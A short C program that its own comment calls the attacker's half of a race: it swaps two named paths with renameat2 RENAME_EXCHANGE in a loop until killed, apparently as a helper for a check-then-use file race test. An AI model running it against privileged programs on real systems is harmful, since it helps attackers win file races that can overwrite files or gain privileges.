/* swap A B: exchanges two names again and again until it is killed: the attacker's half of a race. */
#define _GNU_SOURCE
#include <fcntl.h>
#include <stdio.h>
#include <sys/prctl.h>

int main(int argc, char **argv)
{
    prctl(PR_SET_PDEATHSIG, 9);
    if (argc != 3) return 2;
    puts("swapping");
    fflush(stdout);
    while (renameat2(AT_FDCWD, argv[1], AT_FDCWD, argv[2], RENAME_EXCHANGE) == 0)
        ;
    perror("renameat2");
    return 1;
}
